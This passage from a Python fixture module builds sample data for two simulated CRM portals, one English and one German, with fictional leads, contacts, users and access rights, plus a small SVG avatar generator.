        "ORIGINATOR_ID": None, "ORIGIN_ID": None, "ORIGIN_VERSION": None,
        "ADDRESS": None, "ADDRESS_2": None, "ADDRESS_CITY": None, "ADDRESS_POSTAL_CODE": None,
        "ADDRESS_REGION": None, "ADDRESS_PROVINCE": None, "ADDRESS_COUNTRY": None,
        "ADDRESS_COUNTRY_CODE": None, "ADDRESS_LOC_ADDR_ID": None, "ADDRESS_LEGAL": None,
        "UTM_SOURCE": None, "UTM_MEDIUM": None, "UTM_CAMPAIGN": None, "UTM_CONTENT": None,
        "UTM_TERM": None, "LAST_ACTIVITY_BY": "2", "LAST_ACTIVITY_TIME": "2024-05-20T09:12:44+02:00",
        "PHONE": [_mf(11800, "PHONE", "WORK", "+44 20 7946 0100")],
    }
    contact = {
        "ID": "15", "POST": "Head of Operations", "COMMENTS": "", "HONORIFIC": "HNR_EN_2",
        "NAME": "Marta", "SECOND_NAME": "Louise", "LAST_NAME": "Hoffmann", "PHOTO": None,
        "LEAD_ID": "101", "TYPE_ID": "CLIENT", "SOURCE_ID": "WEB", "SOURCE_DESCRIPTION": None,
        "COMPANY_ID": "7", "BIRTHDATE": "1986-03-14T00:00:00+01:00", "EXPORT": "Y",
        "HAS_PHONE": "Y", "HAS_EMAIL": "Y", "HAS_IMOL": "N",
        "DATE_CREATE": "2024-05-20T09:15:00+02:00", "DATE_MODIFY": "2024-05-20T09:15:00+02:00",
        "ASSIGNED_BY_ID": "2", "CREATED_BY_ID": "1", "MODIFY_BY_ID": "1", "OPENED": "Y",
        "ORIGINATOR_ID": None, "ORIGIN_ID": None, "ORIGIN_VERSION": None, "FACE_ID": None,
        "LAST_ACTIVITY_TIME": "2024-05-20T09:15:00+02:00", "ADDRESS": None, "ADDRESS_2": None,
        "ADDRESS_CITY": None, "ADDRESS_POSTAL_CODE": None, "ADDRESS_REGION": None,
        "ADDRESS_PROVINCE": None, "ADDRESS_COUNTRY": None, "ADDRESS_LOC_ADDR_ID": None,
        "UTM_SOURCE": None, "UTM_MEDIUM": None, "UTM_CAMPAIGN": None, "UTM_CONTENT": None,
        "UTM_TERM": None, "LAST_ACTIVITY_BY": "1",
        "PHONE": [_mf(11810, "PHONE", "WORK", "+44 20 7946 0123")],
        "EMAIL": [_mf(11811, "EMAIL", "WORK", "m.hoffmann@nordwind.example")],
    }
    return {
        "lang": "en", "tz": 2, "title": "Nordwind Demo (EN)", "users": users, "rights": rights,
        "leads": {int(l["ID"]): l for l in (rich, minimal, hostile, private, junk, won, orphan)},
        "companies": {7: company}, "contacts": {15: contact},
        "statuses": _statuses("en"), "currencies": _currencies("en"),
        "lead_fields": lead_fields(UF_A, "en"), "stage_required": copy.deepcopy(STAGE_REQUIRED_A),
    }


def _portal_b() -> dict:
    users = {
        1: _user(1, "Clara", "Weiß", "clara.weiss@devportal.example", "Geschäftsführerin", True, "F"),
        2: _user(2, "Daniel", "Roth", "daniel.roth@devportal.example", "Vertrieb", False, "M"),
    }
    rights = {1: "admin", 2: "own_or_opened"}
    l1 = _blank_lead(201, "2024-06-03T10:20:00+03:00", by="2")
    l1.update({
        "TITLE": "Anfrage: Lagerregale für Halle 3", "HONORIFIC": "HNR_DE_1", "NAME": "Jörg",
        "LAST_NAME": "Müller", "COMPANY_TITLE": "Müller & Söhne KG", "SOURCE_ID": "EMAIL",
        "STATUS_ID": "IN_PROCESS", "OPPORTUNITY": "18750.00", "CURRENCY_ID": "EUR",
        "COMMENTS": "Rückruf [B]Dienstag[/B] vereinbart.", "HAS_PHONE": "Y", "HAS_EMAIL": "Y",
        "ASSIGNED_BY_ID": "2", "ADDRESS_CITY": "Köln", "ADDRESS_COUNTRY": "Deutschland",
        "PHONE": [_mf(21001, "PHONE", "WORK", "+44 161 496 0456")],
        "EMAIL": [_mf(21002, "EMAIL", "WORK", "j.mueller@mueller-soehne.example")],
    })
    _with_ufs(l1, UF_B, {"UF_CRM_1594289616952": "Neumarkt", "UF_CRM_1594289659496": "20000|EUR"})
    l2 = _with_ufs(_blank_lead(202, "2024-06-04T08:00:00+03:00", by="1"), UF_B)
    l2.update({"CURRENCY_ID": "RUB", "OPENED": "N"})
    return {
        "lang": "de", "tz": 3, "title": "Müller Demo (DE)", "users": users, "rights": rights,
        "leads": {201: l1, 202: l2}, "companies": {}, "contacts": {},
        "statuses": _statuses("de"), "currencies": _currencies("de"),
        "lead_fields": lead_fields(UF_B, "de"),
    }


SAMPLE_PORTALS = {"a": _portal_a, "b": _portal_b}

# Named sample leads per portal (``Simulator.sample_lead(portal, kind)``).
SAMPLE_LEAD_KINDS = {
    "a": {"rich": 101, "minimal": 102, "hostile": 103, "private": 104, "failed": 105, "junk": 105,
          "converted": 106, "success": 106, "unknown_user": 107},
    "b": {"rich": 201, "minimal": 202, "private": 202},
}


def portal_data(name: str) -> dict:
    """Fresh (deep) copy of a portal's sample data; unknown names get portal b's shape."""
    builder = SAMPLE_PORTALS.get(name, _portal_b)
    return copy.deepcopy(builder())


def avatar_svg(user: dict) -> str:
    initials = (user.get("NAME", "?")[:1] + user.get("LAST_NAME", "")[:1]).upper()
    colors = ["#2fc6f6", "#7bd500", "#ffa900", "#ff5752", "#9dcf00"]
    color = colors[int(user["ID"]) % len(colors)]
    from html import escape
    return (
        '<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64" viewBox="0 0 64 64">'
        f'<circle cx="32" cy="32" r="32" fill="{color}"/>'
        '<text x="32" y="40" font-family="Helvetica, Arial, sans-serif" font-size="24" '
        f'fill="#fff" text-anchor="middle">{escape(initials)}</text></svg>'
    )
